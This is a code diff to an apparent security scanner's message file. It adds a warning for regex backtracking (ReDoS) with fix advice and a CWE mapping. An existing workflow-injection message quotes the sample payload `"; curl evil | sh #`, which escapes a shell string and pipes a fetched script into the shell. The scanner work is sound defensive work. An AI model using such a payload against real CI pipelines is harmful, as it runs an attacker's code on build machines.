@@ -18,6 +18,7 @@ export type SecurityMessageId =
   | 'hardcodedSecret'
   | 'workflowInjection'
   | 'pullRequestTargetCheckout'
+  | 'redosOnInput'
 
 export const MESSAGES: Record<SecurityMessageId, MessageTemplate> = {
   codeInjection: {
@@ -85,6 +86,11 @@ export const MESSAGES: Record<SecurityMessageId, MessageTemplate> = {
     message:
       'Step {{step}} of job {{job}} puts `{{expression}}` into its shell script; {{who}} controls that text, so `"; curl evil | sh #` runs as code{{privilege}}. Pass it through env: and read "$VAR".'
   },
+  redosOnInput: {
+    title: 'Regular expression {{pattern}} applied to {{input}} can backtrack {{complexity}} in {{function}}',
+    message:
+      '{{function}} matches `{{subject}}` against {{pattern}} in {{sink}}{{path}}; recheck found that an input like {{attack}} makes it backtrack {{complexity}}, so {{effect}} Limit the input length before matching or rewrite the pattern so that no two quantifiers can match the same text.'
+  },
   pullRequestTargetCheckout: {
     title: 'pull_request_target checks out the pull request head in {{file}}',
     message:
@@ -108,5 +114,6 @@ export const CWE: Record<SecurityMessageId, string> = {
   tlsVerificationDisabled: 'CWE-295',
   hardcodedSecret: 'CWE-798',
   workflowInjection: 'CWE-94',
-  pullRequestTargetCheckout: 'CWE-829'
+  pullRequestTargetCheckout: 'CWE-829',
+  redosOnInput: 'CWE-1333'
 }
